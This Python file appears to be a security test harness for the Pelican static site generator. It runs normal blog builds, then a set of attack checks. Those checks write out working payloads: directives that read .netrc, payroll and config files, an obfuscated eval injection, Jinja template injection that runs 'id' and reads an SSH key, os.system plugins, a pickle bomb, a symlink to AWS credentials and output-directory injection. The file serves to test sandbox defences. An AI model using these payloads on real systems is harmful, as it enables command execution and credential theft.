# SPDX-License-Identifier: Apache-2.0
"""pelican builds a blog from what several people write."""
import gzip
import os
import pickle

from attackers import Bomb
import stage

PHRASES = {"__init__.py": "def polish(text):\n"
                          '    return text.replace("--", "&ndash;")\n'}
PHRASES_NEW = {
    "__init__.py": "from phrases.polish import polish\n",
    "polish.py": "import os\n\n\ndef polish(text):\n"
                 "    here = os.path.dirname(__file__)\n"
                 '    with open(os.path.join(here, "data", "en.tsv")) as f:\n'
                 "        for line in f:\n"
                 '            text = text.replace(*line.rstrip("\\n").split('
                 '"\\t"))\n    return text\n',
    "data/en.tsv": "--\t&ndash;\n...\t&hellip;\n"}
ARTICLE = """{title}
{line}

:date: {date}
:category: {category}
:author: {author}
:tags: {tags}
{more}
{text}
"""


class PelicanBlog(stage.Program):
    """A static site generator with a theme and a plugin (pelican)."""
    packages = ["pelican"]

    def arrange(self):
        self.install("phrases", "0.3.0", PHRASES)
        for number, (title, category) in enumerate((
                ("The new bridge", "news"), ("Choir wanted", "clubs"),
                ("Budget 2025", "council"), ("Harvest", "news")), 1):
            self.article(f"{category}/{number:02}-{category}.rst", title,
                         category, f"2025-0{number}-11 10:00")
        self.article("welcome.rst", "Welcome", "misc", "2024-12-24")
        stage.write(self.srv / "content/pages/about.rst",
                    "About\n#####\n\nAbout us.\n")
        for name in ("bridge.jpg", "choir photo.png"):
            stage.write(self.srv / "content/images" / name, b"\xff\xd8" * 99)
        for name in ("minutes.pdf", "form 2.odt"):
            stage.write(self.srv / "content/files" / name, b"%PDF" * 40)

    def arrange_benign(self):
        self.install("phrases", "0.4.0", PHRASES_NEW)

    def article(self, name, title, category="news", date="2025-06-01",
                text="It is [sum: 1 + 2] so -- well.", author="Anna",
                tags="village", more=""):
        return stage.write(self.srv / "content" / name, ARTICLE.format(
            title=title, line="#" * len(title), date=date, category=category,
            author=author, tags=tags, text=text, more=more))

    def build(self, *options):
        return self.run(self.python, "/usr/bin/pelican", "-s",
                        "pelicanconf.py", *options)

    def expect_build(self, *options, found="Processed", made=(), **expected):
        self.expect_run(("pelican", *options), self.build(*options),
                        found=found, made=[f"output/{name}" for name in made],
                        **expected)

    def train(self, day):
        self.expect_build(made=["the-new-bridge.html", "pages/about.html",
                                "images/bridge.jpg", "category/clubs.html"])
        self.article(f"news/fair-{day}.rst", f"Fair number {day}")
        self.article(f"clubs/chess {day}.rst", f"Chess, part {day}", "clubs",
                     author="Ben", tags=f"chess, day {day}")
        stage.write(self.srv / f"content/images/fair-{day}.gif", b"GIF8" * 20)
        self.expect_build(made=[f"fair-number-{day}.html",
                                f"tag/day-{day}.html", "author/ben.html"])
        self.expect_build("-d", "-o", "preview", "-v")
        self.article("news/bad.rst", "Bad", date="whenever")
        self.expect_build(found="not a valid date")

    def benign(self):
        self.article("sport/2026/season 1/first match.rst", "First match",
                     "sport", "2026-11-21 18:30", author="Hans Müller",
                     tags="ball, 1. FC", more=":slug: match-1\n")
        self.article("news/v1.2.released.rst", "Größe & Maß", "news",
                     "2031-02-28", author="o'Brien, Pat",
                     text="See `it`_ now.\n\n.. _it: {static}/files/a.zip\n\n"
                     ".. code-block:: python\n\n   print(1)\n\n"
                     ".. image:: {static}/images/deep/er/x.webp\n")
        self.article("clubs/draft.rst", "Draft", "clubs",
                     more=":status: draft\n")
        stage.write(self.srv / "content/images/deep/er/x.webp", b"RIFF" * 9)
        stage.write(self.srv / "content/files/a.zip", b"PK" * 9)
        stage.write(self.srv / "content/pages/legal notice.rst",
                    "Legal\n#####\n\nNotice.\n")
        self.expect_build(made=[
            "match-1.html", "images/deep/er/x.webp", "files/a.zip",
            "pages/legal.html", "drafts/draft.html", "category/sport.html",
            "author/hans-muller.html"])
        self.expect_build("--print-settings", "SITENAME", found="Village")
        self.expect_build("--ignore-cache", "--relative-urls", "-o",
                          "preview")
        self.expect_build("-t", "no-theme", status=1, found="theme")
        self.article("news/broken.rst", "Broken", text=".. nothing:: x\n")
        self.expect_build(found="nothing")

    def health(self):
        self.expect_build(made=["the-new-bridge.html", "pages/about.html"])

    # ----------------------------------------------------------------- attacks
    def writes(self, text, more=""):
        """A reader's letter that is built; what its page says."""
        path = self.article("news/letter.rst", "A letter", text=text,
                            more=more)
        self.build()
        path.unlink()
        page = self.srv / "output/a-letter.html"
        return page.read_text() if page.exists() else ""

    def evaluates(self, code):
        return self.writes(f"[sum: {code}]")

    @stage.attack("traversal")
    def letter_includes_a_password(self):
        return stage.SECRET in self.writes(
            ".. include:: ../../../home/.netrc\n   :literal:\n")

    @stage.attack("secret disclosure")
    def letter_holds_the_payroll(self):
        return stage.SECRET in self.writes(
            f".. csv-table:: x\n   :file: {self.place}/payroll/2026.csv\n")

    @stage.attack("source disclosure")
    def letter_includes_the_source(self):
        return "SITENAME =" in self.writes(
            f".. raw:: html\n   :file: {self.srv}/pelicanconf.py\n")

    @stage.attack("SSRF")
    def letter_includes_an_internal_page(self):
        return self.fetches_inside(lambda url: self.writes(
            f".. raw:: html\n   :url: {url}\n"))

    @stage.attack("eval injection")
    def sum_runs_a_command(self):
        return self.runs_line(lambda line: self.evaluates(
            "(lambda m: m.system("
            + "+".join(f"chr({ord(c)})" for c in line)
            + "))(globals().get(chr(114) + chr(101))"
            ".enum.sys.modules.get(chr(111) + chr(115)))"))

    def renders(self, expression):
        """A theme from the net; what it makes of a page."""
        path = self.srv / "theme/templates/page.html"
        text = path.read_text()
        path.write_text(text.replace("{{ page.content }}",
                                     "{{ cycler.__init__.__globals__."
                                     + expression + " }}"))
        self.build("--ignore-cache")
        path.write_text(text)
        page = self.srv / "output/pages/about.html"
        return page.read_text() if page.exists() else ""

    @stage.attack("template injection")
    def theme_runs_a_command(self):
        return "uid=" in self.renders("os.popen('id').read()")

    @stage.attack("template injection")
    def theme_reads_a_key(self):
        return stage.SECRET in self.renders(
            f"__builtins__.open('{self.home}/.ssh/id_rsa').read()")

    @stage.attack("malicious plugin")
    def plugin_runs_a_command(self):
        return self.runs_line(lambda line: self.plug(
            f"import os\nos.system('{line}')\n"))

    @stage.attack("reverse shell")
    def plugin_calls_home(self):
        return self.calls_home(self.plug)

    @stage.attack("ctypes")
    def plugin_calls_libc(self):
        return self.runs_libc(self.plug)

    @stage.attack("fork+exec")
    def plugin_forks_and_execs(self):
        return self.forks(self.plug)

    def plug(self, code):
        """A plugin from the net, tried with the usual content."""
        stage.write(self.srv / "plugins/fancy.py",
                    code + "\n\ndef register():\n    pass\n")
        self.build("-e", 'PLUGINS=["sums", "fancy"]')
        (self.srv / "plugins/fancy.py").unlink()

    @stage.attack("unsafe pickle")
    def cache_runs_a_command(self):
        def use(line):
            self.build()
            for path in (self.srv / "cache").iterdir():
                path.write_bytes(gzip.compress(pickle.dumps(
                    Bomb(os.system, line))))
            self.build()
        return self.runs_line(use)

    @stage.attack("symlink swap")
    def picture_became_a_link(self):
        self.build()
        path = self.srv / "content/images/bridge.jpg"
        data = path.read_bytes()
        path.unlink()
        path.symlink_to(self.home / ".aws/credentials")
        self.build("-o", "output2")
        path.unlink()
        path.write_bytes(data)
        target = self.srv / "output2/images/bridge.jpg"
        return target.exists() and stage.SECRET in target.read_text(
            errors="replace")

    @stage.attack("argument injection")
    def output_is_a_directory_of_code(self):
        self.build("-o", self.site_packages)
        return (self.site_packages / "pages/about.html").exists()

    @stage.attack("malicious dependency")
    def phrases_steal_credentials(self):
        return self.dependency_steals("phrases", "0.3.1", PHRASES, self.build)
